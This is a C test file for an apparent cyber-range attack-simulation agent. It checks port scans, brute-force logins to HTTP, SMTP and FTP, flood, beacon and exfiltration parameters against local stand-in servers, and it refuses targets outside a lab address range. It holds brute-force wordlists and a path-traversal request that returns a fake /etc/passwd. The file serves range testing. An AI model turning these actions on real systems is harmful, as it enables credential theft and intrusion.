/* Tests of the attacker actions (agents/agent_action.c, agent_act_net.c)
 * and the shared parameter checks (agents/action_table.c).
 *
 * The network actions run in this process against small servers the test
 * forks (HTTP with basic auth, SMTP, an upload sink, DNS, a beacon
 * listener, a UDP counter).  As root the whole test first moves into new
 * network and UTS namespaces: 198.18.7.1 on lo carries the servers, and a
 * veth link 198.18.9.1/24 whose peer never answers gives a "filtered"
 * address, so real packets flow without any leaving the machine.  Without
 * root those cases are skipped; the checks of parameters, requests and
 * replies still run.  The dispatcher is also exercised end to end through
 * the real agent binary on a stdio channel.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sched.h>
#include <setjmp.h>
#include <signal.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#include <cmocka.h>

#include "action_table.h"
#include "agent_action.h"
#include "proto.h"

#ifndef CYRANGE_AGENT_BIN
#define CYRANGE_AGENT_BIN "build/cyrange-agent"
#endif

#define SRV_ADDR "198.18.7.1"   /* on lo: the test's servers */
#define DEAD_ADDR "198.18.9.2"  /* behind a veth that never answers */

static struct {
    char dir[64];
    char bin[512];
    int netns;
} g;

/* ---- helpers ------------------------------------------------------------- */

static long long now_ms(void)
{
    struct timespec ts;

    clock_gettime(CLOCK_MONOTONIC, &ts);
    return (long long)ts.tv_sec * 1000 + ts.tv_nsec / 1000000;
}

static int sh(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static int sh(const char *fmt, ...)
{
    char cmd[2048];
    va_list ap;
    int st;

    va_start(ap, fmt);
    vsnprintf(cmd, sizeof(cmd), fmt, ap);
    va_end(ap);
    st = system(cmd);
    return WIFEXITED(st) ? WEXITSTATUS(st) : -1;
}

static int listen_tcp(const char *addr, int port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0), one = 1;

    assert_true(fd >= 0);
    setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    inet_pton(AF_INET, addr, &sa.sin_addr);
    assert_int_equal(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
    assert_int_equal(listen(fd, 512), 0);
    return fd;
}

static int bind_udp(const char *addr, int port)
{
    struct sockaddr_in sa;
    int fd = socket(AF_INET, SOCK_DGRAM | SOCK_CLOEXEC, 0);

    assert_true(fd >= 0);
    memset(&sa, 0, sizeof(sa));
    sa.sin_family = AF_INET;
    sa.sin_port = htons((uint16_t)port);
    inet_pton(AF_INET, addr, &sa.sin_addr);
    assert_int_equal(bind(fd, (struct sockaddr *)&sa, sizeof(sa)), 0);
    return fd;
}

/* A forked server: fn(listen fd, report fd) runs until killed. */
typedef struct srv {
    pid_t pid;
    int rfd; /* the server's report, read after it is killed */
} srv;

typedef void (*srv_fn)(int lfd, int wfd, const void *arg);

static void srv_start(srv *s, int lfd, srv_fn fn, const void *arg)
{
    int p[2];

    assert_int_equal(pipe(p), 0);
    s->pid = fork();
    assert_true(s->pid >= 0);
    if (s->pid == 0) {
        prctl(PR_SET_PDEATHSIG, SIGKILL);
        close(p[0]);
        fn(lfd, p[1], arg);
        _exit(0);
    }
    close(p[1]);
    close(lfd);
    s->rfd = p[0];
}

/* Stops the server and returns its report (malloc'd). */
static char *srv_stop(srv *s)
{
    size_t len = 0, cap = 65536;
    char *buf = malloc(cap + 1);
    ssize_t n;

    assert_non_null(buf);
    kill(s->pid, SIGKILL);
    waitpid(s->pid, NULL, 0);
    while ((n = read(s->rfd, buf + len, cap - len)) > 0) {
        len += (size_t)n;
        if (len == cap) {
            char *nb = realloc(buf, cap * 2 + 1);
            assert_non_null(nb);
            buf = nb;
            cap *= 2;
        }
    }
    buf[len] = '\0';
    close(s->rfd);
    return buf;
}

static void report(int wfd, const char *fmt, ...) __attribute__((format(printf, 2, 3)));

static void report(int wfd, const char *fmt, ...)
{
    char buf[4096];
    va_list ap;
    int n;

    va_start(ap, fmt);
    n = vsnprintf(buf, sizeof(buf), fmt, ap);
    va_end(ap);
    if (n > (int)sizeof(buf) - 1)
        n = sizeof(buf) - 1;
    if (write(wfd, buf, (size_t)n) < 0)
        _exit(1);
}

/* Reads an HTTP request head (and Content-Length bytes of body, counted)
 * from fd.  Returns the head, NUL-terminated, in buf. */
static long long read_http(int fd, char *buf, size_t len, char *body,
                           size_t bodylen)
{
    size_t n = 0;
    long long clen = 0, got = 0;
    char *end = NULL, *cl = NULL;

    while (n + 1 < len) {
        ssize_t r = read(fd, buf + n, len - 1 - n);
        if (r <= 0)
            break;
        n += (size_t)r;
        buf[n] = '\0';
        if ((end = strstr(buf, "\r\n\r\n")) != NULL)
            break;
    }
    buf[n] = '\0';
    if (end == NULL)
        return -1;
    cl = strcasestr(buf, "Content-Length:");
    if (cl != NULL)
        clen = atoll(cl + 15);
    got = (long long)(n - (size_t)(end + 4 - buf));
    if (body != NULL && bodylen > 0) {
        size_t k = (size_t)got < bodylen - 1 ? (size_t)got : bodylen - 1;
        memcpy(body, end + 4, k);
        body[k] = '\0';
    }
    while (got < clen) {
        char tmp[16384];
        ssize_t r = read(fd, tmp, sizeof(tmp));
        if (r <= 0)
            break;
        if (body != NULL && (size_t)got < bodylen - 1) {
            size_t k = (size_t)r;
            if ((size_t)got + k > bodylen - 1)
                k = bodylen - 1 - (size_t)got;
            memcpy(body + got, tmp, k);
            body[got + (long long)k] = '\0';
        }
        got += r;
    }
    end[2] = '\0'; /* keep the head only, ending in one CR LF */
    return got;
}

static void say(int fd, const char *s)
{
    if (write(fd, s, strlen(s)) < 0)
        return;
}

/* ---- servers ------------------------------------------------------------- */

/* HTTP basic auth: 200 for the credential in arg ("user:pass" base64),
 * else 401.  Reports "try AUTH" per request. */
static void srv_basic(int lfd, int wfd, const void *arg)
{
    const char *want = arg;

    for (;;) {
        char head[8192], *a = NULL;
        int c = accept(lfd, NULL, NULL);
        if (c < 0)
            continue;
        if (read_http(c, head, sizeof(head), NULL, 0) >= 0) {
            a = strstr(head, "Authorization: Basic ");
            if (a != NULL) {
                a += 21;
                a[strcspn(a, "\r\n")] = '\0';
            }
            report(wfd, "try %s\n", a ? a : "-");
            if (a != NULL && strcmp(a, want) == 0)
                say(c, "HTTP/1.1 200 OK\r\nContent-Length: 8\r\n\r\nwelcome\n");
            else
                say(c, "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Basic "
                       "realm=\"x\"\r\nContent-Length: 0\r\n\r\n");
        }
        close(c);
    }
}

/* A line from a socket, without CR LF. */
static int read_line(int fd, char *buf, size_t len)
{
    size_t n = 0;
    char ch;

    while (n + 1 < len) {
        ssize_t r = read(fd, &ch, 1);
        if (r <= 0)
            return -1;
        if (ch == '\n')
            break;
        buf[n++] = ch;
    }
    while (n > 0 && buf[n - 1] == '\r')
        n--;
    buf[n] = '\0';
    return (int)n;
}

/* SMTP: EHLO, AUTH PLAIN (the credential in arg is "\0user\0pass" in
 * base64), MAIL, RCPT, DATA.  Reports every command and the message. */
static void srv_smtp(int lfd, int wfd, const void *arg)
{
    const char *want = arg;

    for (;;) {
        char line[4096];
        int c = accept(lfd, NULL, NULL);
        if (c < 0)
            continue;
        say(c, "220 test ESMTP\r\n");
        while (read_line(c, line, sizeof(line)) >= 0) {
            report(wfd, "C: %s\n", line);
            if (strncasecmp(line, "EHLO", 4) == 0) {
                say(c, "250-test\r\n250-AUTH PLAIN LOGIN\r\n250 HELP\r\n");
            } else if (strncasecmp(line, "AUTH PLAIN ", 11) == 0) {
                say(c, strcmp(line + 11, want) == 0 ?
                           "235 2.7.0 Authentication successful\r\n" :
                           "535 5.7.8 Authentication credentials invalid\r\n");
            } else if (strncasecmp(line, "DATA", 4) == 0) {
                say(c, "354 End data with <CR><LF>.<CR><LF>\r\n");
                while (read_line(c, line, sizeof(line)) >= 0 &&
                       strcmp(line, ".") != 0)
                    report(wfd, "D: %s\n", line);
                say(c, "250 2.0.0 Ok: queued as T1\r\n");
            } else if (strncasecmp(line, "QUIT", 4) == 0) {
                say(c, "221 Bye\r\n");
                break;
            } else {
                say(c, "250 2.1.0 Ok\r\n");
            }
        }
        close(c);
    }
}

/* FTP logins: USER/PASS, 230 for the pair in arg ("user:pass"). */
static void srv_ftp(int lfd, int wfd, const void *arg)
{
    const char *want = arg;

    for (;;) {
        char line[512], user[128] = "", pair[300];
        int c = accept(lfd, NULL, NULL);
        if (c < 0)
            continue;
        say(c, "220 FTP server ready.\r\n");
        while (read_line(c, line, sizeof(line)) >= 0) {
            report(wfd, "C: %s\n", line);
            if (strncmp(line, "USER ", 5) == 0) {
                snprintf(user, sizeof(user), "%s", line + 5);
                say(c, "331 Please specify the password.\r\n");
            } else if (strncmp(line, "PASS ", 5) == 0) {
                snprintf(pair, sizeof(pair), "%s:%s", user, line + 5);
                say(c, strcmp(pair, want) == 0 ? "230 Login successful.\r\n" :
                                                 "530 Login incorrect.\r\n");
            } else if (strncmp(line, "QUIT", 4) == 0) {
                say(c, "221 Goodbye.\r\n");
                break;
            } else {
                say(c, "530 Please login with USER and PASS.\r\n");
            }
        }
        close(c);
    }
}

/* Any HTTP request: reports "REQ <request line> BODY <bytes>" and the body's
 * first bytes, answers arg (a whole response) or 404. */
static void srv_http(int lfd, int wfd, const void *arg)
{
    const char *answer = arg;

    for (;;) {
        char head[8192], body[4096];
        long long n;
        int c = accept(lfd, NULL, NULL);
        if (c < 0)
            continue;
        n = read_http(c, head, sizeof(head), body, sizeof(body));
        if (n >= 0) {
            head[strcspn(head, "\r\n")] = '\0';
            report(wfd, "REQ %s BODY %lld\n", head, n);
            if (n > 0)
                report(wfd, "DATA %.3000s\n", body);
            say(c, answer ? answer : "HTTP/1.1 404 Not Found\r\n"
                                     "Content-Length: 0\r\n\r\n");
        }
        close(c);
    }
}

/* The traversal page of the server image, reduced: /etc/passwd when the
 * file parameter climbs out of its folder. */
static void srv_traversal(int lfd, int wfd, const void *arg)
{
    (void)arg;
    for (;;) {
        char head[8192];
        int c = accept(lfd, NULL, NULL);
        if (c < 0)
            continue;
        if (read_http(c, head, sizeof(head), NULL, 0) >= 0) {
            head[strcspn(head, "\r\n")] = '\0';
            report(wfd, "REQ %s\n", head);
            if (strstr(head, "file=..%2F..%2F") != NULL)
                say(c, "HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n\r\n"
                       "<pre>root:x:0:0:root:/root:/bin/sh\n"
                       "www-data:x:33:33::/var/www:/bin/false</pre>");
            else
                say(c, "HTTP/1.1 200 OK\r\nContent-Length: 9\r\n\r\nno such\n");
        }
        close(c);
    }
}

/* DNS: answers every query NXDOMAIN; reports "Q name". */
static void srv_dns(int fd, int wfd, const void *arg)
{
    (void)arg;
    for (;;) {
        unsigned char buf[1500], *p;
        char name[300];
        struct sockaddr_in from;
        socklen_t fl = sizeof(from);
        ssize_t n = recvfrom(fd, buf, sizeof(buf), 0, (struct sockaddr *)&from,
                             &fl);
        size_t o = 0;
        if (n < 13)
            continue;
        for (p = buf + 12; p < buf + n && *p && o + 64 < sizeof(name);
             p += *p + 1) {
            if (o)
                name[o++] = '.';
            memcpy(name + o, p + 1, *p);
            o += *p;
        }
        name[o] = '\0';
        report(wfd, "Q %s\n", name);
        buf[2] |= 0x80;
        buf[3] = (buf[3] & 0xf0) | 3;
        sendto(fd, buf, (size_t)n, 0, (struct sockaddr *)&from, fl);
    }
}

/* Counts UDP packets: reports "P" per packet. */
static void srv_udp_count(int fd, int wfd, const void *arg)
{
    (void)arg;
    for (;;) {
        char buf[2048];
        if (recv(fd, buf, sizeof(buf), 0) > 0)
            report(wfd, "P");
    }
}

/* ---- running actions in-process ---------------------------------------- */

typedef struct run {
    json_t *req;
    act_req q;
    act_result r;
    int rc;
    long long ms;
} run;

/* Parses a request (as the agent would) and runs it here. */
static void run_action(run *x, const char *json)
{
    json_error_t jerr;
    char err[512];
    long long t0;

    memset(x, 0, sizeof(*x));
    x->req = json_loads(json, 0, &jerr);
    if (x->req == NULL)
        fail_msg("bad test JSON: %s: %s", jerr.text, json);
    if (act_req_parse(x->req, &x->q, err, sizeof(err)) < 0)
        fail_msg("request refused: %s", err);
    act_result_init(&x->r);
    t0 = now_ms();
    x->rc = act_run(&x->q, &x->r);
    x->ms = now_ms() - t0;
}

static void run_done(run *x)
{
    act_result_clear(&x->r);
    json_decref(x->req);
}

static const json_t *ev(const run *x, const char *key)
{
    return json_object_get(x->r.evidence, key);
}

static long long ev_int(const run *x, const char *key)
{
    return (long long)json_integer_value(ev(x, key));
}

static int json_array_has_int(const json_t *a, long long v)
{
    size_t i;

    for (i = 0; i < json_array_size(a); i++)
        if (json_integer_value(json_array_get(a, i)) == v)
            return 1;
    return 0;
}

static int count_substr(const char *s, const char *sub)
{
    int n = 0;

    for (; (s = strstr(s, sub)) != NULL; s += strlen(sub))
        n++;
    return n;
}

/* Refused requests: act_req_parse must fail with `want` in the message. */
static void expect_refused(const char *json, const char *want)
{
    json_error_t jerr;
    json_t *req = json_loads(json, 0, &jerr);
    char err[512] = "";
    act_req q;

    assert_non_null(req);
    if (act_req_parse(req, &q, err, sizeof(err)) == 0)
        fail_msg("accepted: %s", json);
    if (strstr(err, want) == NULL)
        fail_msg("error \"%s\" lacks \"%s\"", err, want);
    json_decref(req);
}

/* ---- fixtures ------------------------------------------------------------ */

static int setup_netns(void)
{
    if (geteuid() != 0 || unshare(CLONE_NEWNET | CLONE_NEWUTS) < 0)
        return -1;
    if (sh("ip link set lo up && ip addr add " SRV_ADDR "/32 dev lo && "
           "ip link add cyra0 type veth peer name cyra1 && "
           "ip addr add 198.18.9.1/24 dev cyra0 && "
           "ip link set cyra0 up && ip link set cyra1 up") != 0)
        return -1;
    return sethostname("pc-test", 7);
}

static int group_setup(void **state)
{
    const char *bin = getenv("CYRANGE_AGENT_BIN");

    (void)state;
    alarm(600);
    signal(SIGPIPE, SIG_IGN);
    /* Daemons the actions start (the implant) become our children, so the
     * tests can see them end. */
    prctl(PR_SET_CHILD_SUBREAPER, 1);
    snprintf(g.bin, sizeof(g.bin), "%s", bin ? bin : CYRANGE_AGENT_BIN);
    snprintf(g.dir, sizeof(g.dir), "/tmp/cyrange-test-actions.XXXXXX");
    if (mkdtemp(g.dir) == NULL)
        return -1;
    chmod(g.dir, 0755);
    g.netns = setup_netns() == 0;
    if (!g.netns)
        fprintf(stderr, "test_actions: not root or no namespaces: the "
                        "network cases are skipped\n");
    return 0;
}

static int group_teardown(void **state)
{
    (void)state;
    if (g.dir[0] != '\0' && getenv("CYRANGE_TEST_KEEP") == NULL)
        sh("rm -rf %s", g.dir);
    return 0;
}

/* ---- parameter checks against the table --------------------------------- */

static int check_params(const char *action, const char *params, char *msg,
                        size_t len)
{
    json_t *p = json_loads(params, 0, NULL);
    int rc;

    assert_non_null(p);
    rc = action_params_check(action_find(action), p, msg, len);
    json_decref(p);
    return rc;
}

static void test_param_checks(void **state)
{
    char m[512];
    int64_t ms;

    (void)state;
    assert_int_equal(check_params("recon.portscan",
                                  "{\"ports\":\"22,80,8000-8100\","
                                  "\"mode\":\"syn\",\"rate\":1000,"
                                  "\"timeout\":\"250ms\"}", m, sizeof(m)), 0);
    /* Bounds. */
    assert_int_equal(check_params("recon.portscan",
                                  "{\"ports\":\"22\",\"rate\":1001}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "between 1 and 1000"));
    assert_int_equal(check_params("recon.portscan",
                                  "{\"ports\":\"22\",\"timeout\":\"50ms\"}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "'timeout'"));
    assert_int_equal(check_params("recon.portscan",
                                  "{\"ports\":\"1-65535,1-10\"}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "65545 ports"));
    assert_int_equal(check_params("recon.portscan", "{\"ports\":\"0-10\"}", m,
                                  sizeof(m)), -1);
    assert_int_equal(check_params("dos.flood",
                                  "{\"kind\":\"udp\",\"port\":53,\"rate\":5000,"
                                  "\"duration\":\"10m\"}", m, sizeof(m)), 0);
    assert_int_equal(check_params("dos.flood",
                                  "{\"kind\":\"udp\",\"port\":53,\"rate\":5001,"
                                  "\"duration\":\"10s\"}", m, sizeof(m)), -1);
    assert_int_equal(check_params("dos.flood",
                                  "{\"kind\":\"udp\",\"port\":53,\"rate\":5,"
                                  "\"duration\":601}", m, sizeof(m)), -1);
    assert_non_null(strstr(m, "between 1s and 10m"));
    assert_int_equal(check_params("cred.bruteforce",
                                  "{\"service\":\"smtp\",\"users\":[\"a\"],"
                                  "\"passwords\":[\"b\"],\"attempts\":1001}",
                                  m, sizeof(m)), -1);
    /* Types. */
    assert_int_equal(check_params("dos.flood",
                                  "{\"kind\":\"udp\",\"port\":\"53\","
                                  "\"rate\":5,\"duration\":\"1s\"}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "must be an integer"));
    assert_int_equal(check_params("cred.bruteforce",
                                  "{\"service\":\"telnet\",\"users\":[\"a\"],"
                                  "\"passwords\":[\"b\"]}", m, sizeof(m)), -1);
    assert_non_null(strstr(m, "one of ssh, http-basic, ftp, smtp"));
    assert_int_equal(check_params("cred.bruteforce",
                                  "{\"service\":\"ssh\",\"users\":[\"a\",\"\"],"
                                  "\"passwords\":[\"b\"]}", m, sizeof(m)), -1);
    assert_int_equal(check_params("web.exploit",
                                  "{\"kind\":\"sqli\",\"path\":\"login\"}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "URL path"));
    assert_int_equal(check_params("lateral.move",
                                  "{\"user\":\"a\",\"password\":\"b\","
                                  "\"implant\":\"yes\"}", m, sizeof(m)), -1);
    assert_int_equal(check_params("c2.beacon",
                                  "{\"channel\":\"http\",\"interval\":\"1h1s\"}",
                                  m, sizeof(m)), -1);
    assert_int_equal(check_params("c2.beacon",
                                  "{\"channel\":\"http\",\"interval\":\"5x\"}",
                                  m, sizeof(m)), -1);
    assert_non_null(strstr(m, "duration such as"));
    /* Unknown and missing parameters. */
    assert_int_equal(check_params("exfil", "{\"channel\":\"http\","
                                  "\"bytes\":10,\"speed\":3}", m, sizeof(m)),
                     -1);
    assert_non_null(strstr(m, "unknown parameter 'speed'"));
    assert_int_equal(check_params("exfil", "{\"channel\":\"http\"}", m,
                                  sizeof(m)), -1);
    assert_non_null(strstr(m, "needs parameter 'bytes'"));
    assert_int_equal(action_params_check(action_find("phish.open"), NULL, m,
                                         sizeof(m)), -1);
    assert_non_null(strstr(m, "'user'"));
    /* Durations as scenarios write them. */
    {
        json_t *v = json_string("1h30m");
        assert_int_equal(action_duration_value(v, &ms), 0);
        assert_int_equal(ms, 5400000);
        json_decref(v);
        v = json_integer(90);
        assert_int_equal(action_duration_value(v, &ms), 0);
        assert_int_equal(ms, 90000);
        json_decref(v);
        v = json_string("30s5m");
        assert_int_equal(action_duration_value(v, &ms), -1);
        json_decref(v);
    }
}

/* ---- request checks ------------------------------------------------------ */

static void test_request_refusals(void **state)
{
    (void)state;
    expect_refused("{\"step\":\"s\",\"action\":\"recon.nmap\","
                   "\"target\":{\"addr\":\"198.18.1.10\"}}",
                   "unknown action 'recon.nmap'");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\"},"
                   "\"target\":{\"addr\":\"10.0.0.1\"}}",
                   "target 10.0.0.1 is outside 198.18.0.0/15");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\"},"
                   "\"target\":{\"addr\":\"198.20.0.1\"}}",
                   "outside 198.18.0.0/15");
    expect_refused("{\"step\":\"s\",\"action\":\"c2.beacon\","
                   "\"params\":{\"channel\":\"http\",\"interval\":\"30s\"},"
                   "\"target\":{\"addr\":\"198.18.0.66\"},"
                   "\"c2\":{\"addr\":\"8.8.8.8\"}}", "c2 8.8.8.8 is outside");
    expect_refused("{\"step\":\"s\",\"action\":\"c2.beacon\","
                   "\"params\":{\"channel\":\"http\",\"interval\":\"30s\","
                   "\"proxy\":\"192.168.1.1:3128\"},"
                   "\"target\":{\"addr\":\"198.18.0.66\"}}",
                   "proxy 192.168.1.1 is outside");
    expect_refused("{\"step\":\"s\",\"action\":\"c2.beacon\","
                   "\"params\":{\"channel\":\"dns\",\"interval\":\"30s\"},"
                   "\"target\":{\"addr\":\"198.18.0.66\"}}", "needs a domain");
    expect_refused("{\"step\":\"s\",\"action\":\"tool.transfer\","
                   "\"params\":{\"path\":\"/tmp/x\","
                   "\"url\":\"http://example.com/x\"}}",
                   "url host example.com");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\",\"rate\":0},"
                   "\"target\":{\"addr\":\"198.18.1.10\"}}",
                   "between 1 and 1000");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\",\"color\":1},"
                   "\"target\":{\"addr\":\"198.18.1.10\"}}",
                   "unknown parameter 'color'");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\"}}", "needs a target");
    expect_refused("{\"step\":\"s\",\"action\":\"inject.message\","
                   "\"params\":{\"from\":\"a\",\"subject\":\"b\",\"body\":\"c\"}}",
                   "not run by an agent");
    expect_refused("{\"step\":\"../x\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\"},"
                   "\"target\":{\"addr\":\"198.18.1.10\"}}", "field \"step\"");
    expect_refused("{\"step\":\"s\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22\"},\"deadline_ms\":0,"
                   "\"target\":{\"addr\":\"198.18.1.10\"}}", "deadline_ms");
}

static void test_bounds_and_timeouts(void **state)
{
    json_t *req = json_loads("{\"step\":\"f\",\"action\":\"dos.flood\","
                             "\"params\":{\"kind\":\"udp\",\"port\":53,"
                             "\"rate\":100,\"duration\":\"30s\"},"
                             "\"target\":{\"addr\":\"198.18.1.10\"}}", 0, NULL);
    char err[256];
    act_req q;

    (void)state;
    assert_int_equal(act_req_parse(req, &q, err, sizeof(err)), 0);
    /* flood duration + 10 s */
    assert_int_equal(act_max_ms(&q), 40000);
    assert_int_equal(act_timeout_ms(&q), 40000);
    q.deadline_ms = 5000;
    assert_int_equal(act_timeout_ms(&q), 5000);
    json_decref(req);
}

static void test_reply_build(void **state)
{
    const char *ok = "{\"outcome\":\"succeeded\",\"detail\":\"d\",\"flows\":[],"
                     "\"flows_total\":0,\"evidence\":{\"x\":1},"
                     "\"started_ms\":1,\"ended_ms\":2}\n";
    json_t *r = NULL;

    (void)state;
    r = act_reply_build(7, ok, strlen(ok), "", 0, 0, 0, 1000, 0);
    assert_true(json_is_true(json_object_get(r, "ok")));
    assert_string_equal(json_string_value(json_object_get(r, "outcome")),
                        "succeeded");
    assert_int_equal(json_integer_value(json_object_get(
                         json_object_get(r, "evidence"), "x")), 1);
    assert_int_equal(json_integer_value(json_object_get(r, "id")), 7);
    json_decref(r);
    r = act_reply_build(8, "{\"error\":\"no raw socket\"}", 25, "", 0, 0, 0,
                        1000, 0);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_string_equal(json_string_value(json_object_get(r, "error")),
                        "no raw socket");
    json_decref(r);
    r = act_reply_build(9, "garbage", 7, "boom\n", 5, 11 /* SIGSEGV */, 0,
                        1000, 0);
    assert_true(json_is_false(json_object_get(r, "ok")));
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")),
                           "signal 11: boom"));
    json_decref(r);
    r = act_reply_build(10, "", 0, "", 0, 9, 1, 4000, 0);
    assert_non_null(strstr(json_string_value(json_object_get(r, "error")),
                           "deadline (4000 ms)"));
    json_decref(r);
}

static void test_flow_list_is_capped(void **state)
{
    act_result r;
    int i;

    (void)state;
    act_result_init(&r);
    for (i = 0; i < 100; i++)
        act_flow_add(&r, "tcp", "198.18.0.1", 1000 + i, "198.18.0.2", 80, 2,
                     10);
    assert_int_equal(json_array_size(r.flows), ACT_MAX_FLOWS);
    assert_int_equal(r.flows_total, 100);
    act_result_clear(&r);
}

/* ---- network actions ----------------------------------------------------- */

static void test_portscan_connect(void **state)
{
    int l1, l2;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    l1 = listen_tcp(SRV_ADDR, 2201);
    l2 = listen_tcp(SRV_ADDR, 2202);
    run_action(&x, "{\"step\":\"scan\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"2200-2205\",\"rate\":200,"
                   "\"timeout\":\"500ms\"},\"seed\":1,"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    close(l1);
    close(l2);
    assert_int_equal(x.rc, 0);
    assert_true(x.r.succeeded);
    assert_int_equal(json_array_size(ev(&x, "open")), 2);
    assert_true(json_array_has_int(ev(&x, "open"), 2201));
    assert_true(json_array_has_int(ev(&x, "open"), 2202));
    assert_int_equal(ev_int(&x, "closed_count"), 4);
    assert_int_equal(x.r.flows_total, 6);
    /* 6 probes at 200/s: not faster than the rate allows. */
    assert_true(x.ms >= 25);
    assert_non_null(strstr(x.r.detail, "2 open"));
    run_done(&x);

    /* Nothing answers behind the dead veth: filtered after the timeout. */
    run_action(&x, "{\"step\":\"scan\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"22,80\",\"timeout\":\"300ms\"},"
                   "\"target\":{\"addr\":\"" DEAD_ADDR "\"}}");
    assert_int_equal(x.rc, 0);
    assert_false(x.r.succeeded);
    assert_int_equal(ev_int(&x, "filtered_count"), 2);
    assert_true(x.ms >= 250 && x.ms < 5000);
    run_done(&x);
}

static void test_portscan_syn(void **state)
{
    int l1;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    l1 = listen_tcp(SRV_ADDR, 2301);
    run_action(&x, "{\"step\":\"syn\",\"action\":\"recon.portscan\","
                   "\"params\":{\"ports\":\"2300-2303\",\"mode\":\"syn\","
                   "\"rate\":500,\"timeout\":\"400ms\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    close(l1);
    assert_int_equal(x.rc, 0);
    assert_true(x.r.succeeded);
    assert_int_equal(json_array_size(ev(&x, "open")), 1);
    assert_true(json_array_has_int(ev(&x, "open"), 2301));
    assert_int_equal(ev_int(&x, "closed_count"), 3);
    assert_string_equal(json_string_value(ev(&x, "mode")), "syn");
    run_done(&x);
}

static void test_bruteforce_http_basic(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    /* base64("bob:hunter2") */
    srv_start(&s, listen_tcp(SRV_ADDR, 8081), srv_basic, "Ym9iOmh1bnRlcjI=");
    run_action(&x, "{\"step\":\"brute\",\"action\":\"cred.bruteforce\","
                   "\"params\":{\"service\":\"http-basic\",\"port\":8081,"
                   "\"users\":[\"alice\",\"bob\"],\"passwords\":[\"123456\","
                   "\"letmein\",\"hunter2\"],\"rate\":50,\"path\":\"/admin\"},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_int_equal(x.rc, 0);
    assert_true(x.r.succeeded);
    assert_string_equal(json_string_value(json_object_get(ev(&x, "found"),
                                                          "user")), "bob");
    assert_string_equal(json_string_value(json_object_get(ev(&x, "found"),
                                                          "password")),
                        "hunter2");
    /* alice x3, then bob x3: stops at the hit. */
    assert_int_equal(ev_int(&x, "attempts"), 6);
    assert_int_equal(count_substr(rep, "try "), 6);
    assert_int_equal(x.r.flows_total, 6);
    /* 6 tries at 50/s take at least 100 ms. */
    assert_true(x.ms >= 100);
    free(rep);
    run_done(&x);

    /* attempts bounds the tries. */
    srv_start(&s, listen_tcp(SRV_ADDR, 8081), srv_basic, "Ym9iOmh1bnRlcjI=");
    run_action(&x, "{\"step\":\"brute\",\"action\":\"cred.bruteforce\","
                   "\"params\":{\"service\":\"http-basic\",\"port\":8081,"
                   "\"users\":[\"alice\",\"bob\"],\"passwords\":[\"123456\","
                   "\"letmein\",\"hunter2\"],\"rate\":50,\"attempts\":2},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_false(x.r.succeeded);
    assert_int_equal(count_substr(rep, "try "), 2);
    assert_true(json_is_null(ev(&x, "found")));
    free(rep);
    run_done(&x);
}

static void test_bruteforce_smtp(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    /* base64("\0hanako\0Spring2026!") */
    srv_start(&s, listen_tcp(SRV_ADDR, 2525), srv_smtp,
              "AGhhbmFrbwBTcHJpbmcyMDI2IQ==");
    run_action(&x, "{\"step\":\"smtp\",\"action\":\"cred.bruteforce\","
                   "\"params\":{\"service\":\"smtp\",\"port\":2525,"
                   "\"users\":[\"hanako\"],\"passwords\":[\"x\","
                   "\"Spring2026!\",\"y\"],\"rate\":50},"
                   "\"target\":{\"addr\":\"" SRV_ADDR "\"}}");
    rep = srv_stop(&s);
    assert_true(x.r.succeeded);
    assert_int_equal(ev_int(&x, "attempts"), 2);
    assert_int_equal(count_substr(rep, "C: AUTH PLAIN "), 2);
    assert_int_equal(count_substr(rep, "C: EHLO pc-test"), 2);
    free(rep);
    run_done(&x);
}

static void test_bruteforce_ftp(void **state)
{
    char *rep = NULL;
    srv s;
    run x;

    (void)state;
    if (!g.netns)
        skip();
    srv_start(&s, listen_tcp(SRV_ADDR, 2121), srv_ftp, "admin:admin");
    run_action(&x, "{\"step\":\"lateral-ftp\",\"action\":\"cred.bruteforce\","
